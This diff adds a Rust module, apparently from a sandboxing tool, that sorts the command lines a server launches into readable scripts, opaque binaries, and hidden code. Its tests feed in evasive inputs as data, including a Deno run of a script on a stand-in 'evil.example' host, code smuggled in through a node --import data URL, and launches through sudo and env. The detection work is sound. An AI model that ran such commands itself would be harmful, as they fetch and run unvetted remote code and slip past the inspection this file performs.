@@ -1,0 +1,149 @@
+//! What a program of a sandboxed server runs.
+
+/// What is known of the code that a command line runs.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) enum Code<'a> {
+    /// A script, in a language.
+    Script { path: &'a str, language: &'static str },
+    /// The program's own code, which nobody here can read.
+    Own,
+    /// It could be any code.
+    Hidden(String),
+}
+
+impl<'a> Code<'a> {
+    pub(super) fn of(command: &str, args: &'a [String]) -> Self {
+        let name = program_name(command);
+        if STARTERS.contains(&&*name) {
+            return Self::Hidden(format!("`{name}` starts other programs: name the program itself"));
+        }
+        let Some(interpreter) = INTERPRETERS.iter().find(|known| known.names.contains(&&*name)) else {
+            return Self::Own;
+        };
+        let mut rest = args.iter().map(String::as_str).peekable();
+        if interpreter.needs_run && rest.next_if_eq(&"run").is_none() {
+            return Self::Hidden(format!("`{name}` has to be given `run` and a script"));
+        }
+        while rest.next_if(|arg| interpreter.harmless.contains(arg)).is_some() {}
+        match rest.next() {
+            Some(path) if !path.is_empty() && !path.starts_with('-') && !path.contains("://") => {
+                Self::Script { path, language: interpreter.language }
+            }
+            Some(other) => {
+                let shown: String = other.chars().take(LONGEST_SHOWN).collect();
+                Self::Hidden(format!("`{name}` has to be given a script first, not `{shown}`"))
+            }
+            None => Self::Hidden(format!("`{name}` has to be given a script")),
+        }
+    }
+}
+
+#[derive(Debug)]
+struct Interpreter {
+    names: &'static [&'static str],
+    language: &'static str,
+    /// Options before the script that load no further code.
+    harmless: &'static [&'static str],
+    needs_run: bool,
+}
+
+/// The name without its directory, its version and `.exe`, in small letters.
+fn program_name(command: &str) -> String {
+    let name = command.rsplit(['/', '\\']).next().unwrap_or(command).to_ascii_lowercase();
+    let name = name.strip_suffix(".exe").unwrap_or(&name);
+    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-').to_owned()
+}
+
+const INTERPRETERS: &[Interpreter] = &[
+    Interpreter {
+        names: &["python", "pypy", "pythonw", "py"],
+        language: "python",
+        harmless: &["-u", "-B", "-E", "-I", "-s", "-S", "-O", "-OO", "-q", "-P"],
+        needs_run: false,
+    },
+    Interpreter {
+        names: &["node", "nodejs"],
+        language: "javascript",
+        harmless: &["--no-warnings", "--enable-source-maps"],
+        needs_run: false,
+    },
+    Interpreter { names: &["tsx", "ts-node"], language: "typescript", harmless: &[], needs_run: false },
+    Interpreter { names: &["deno", "bun"], language: "typescript", harmless: &[], needs_run: true },
+    Interpreter {
+        names: &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"],
+        language: "bash",
+        harmless: &[],
+        needs_run: false,
+    },
+    // Nobody here reads these; whoever inspects says so, and they are refused.
+    Interpreter { names: &["ruby"], language: "ruby", harmless: &[], needs_run: false },
+    Interpreter { names: &["perl"], language: "perl", harmless: &[], needs_run: false },
+    Interpreter { names: &["php"], language: "php", harmless: &[], needs_run: false },
+    Interpreter { names: &["lua", "luajit"], language: "lua", harmless: &[], needs_run: false },
+    Interpreter { names: &["rscript"], language: "r", harmless: &[], needs_run: false },
+    Interpreter { names: &["fish", "csh", "tcsh"], language: "shell", harmless: &[], needs_run: false },
+    Interpreter { names: &["pwsh", "powershell"], language: "powershell", harmless: &[], needs_run: false },
+    Interpreter { names: &["cmd"], language: "batch", harmless: &[], needs_run: false },
+];
+
+/// Programs that are given another one to start.
+const STARTERS: &[&str] = &[
+    "env", "sudo", "doas", "su", "nice", "nohup", "setsid", "timeout", "xargs", "busybox", "toybox",
+    "stdbuf", "time", "ionice", "chroot", "unshare", "nsenter", "exec", "command", "script", "start", "ssh",
+    "watch", "parallel", "find",
+];
+
+const LONGEST_SHOWN: usize = 40;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn code(line: &str) -> String {
+        let mut words = line.split(' ').map(str::to_owned);
+        let command = words.next().unwrap();
+        let args: Vec<_> = words.collect();
+        match Code::of(&command, &args) {
+            Code::Script { path, language } => format!("{language}: {path}"),
+            Code::Own => "own".into(),
+            Code::Hidden(_) => "hidden".into(),
+        }
+    }
+
+    #[test]
+    fn the_script_of_an_interpreter_is_found() {
+        assert_eq!(code("python scripts/a.py -c x"), "python: scripts/a.py");
+        assert_eq!(code("/usr/bin/python3.12 -u -I a.py"), "python: a.py");
+        assert_eq!(code("node.exe a.js"), "javascript: a.js");
+        assert_eq!(code("deno run a.ts"), "typescript: a.ts");
+        assert_eq!(code("Bash a.sh"), "bash: a.sh");
+    }
+
+    #[test]
+    fn code_that_no_script_holds_is_hidden() {
+        for line in [
+            "python -c print(1)",
+            "python3 -m http.server",
+            "python -u -c x a.py",
+            "python",
+            "python -",
+            "node -e x",
+            "node --require ./x.js a.js",
+            "node --import=data:text/javascript,x a.js",
+            "deno run https://evil.example/x.ts",
+            "deno run -A a.ts",
+            "deno eval x",
+            "sh -c x",
+            "env python a.py",
+            "busybox sh",
+            "/usr/bin/sudo node a.js",
+        ] {
+            assert_eq!(code(line), "hidden", "{line}");
+        }
+    }
+
+    #[test]
+    fn any_other_program_is_its_own_code() {
+        assert_eq!(code("/opt/tools/files-server --root /tmp"), "own");
+    }
+}
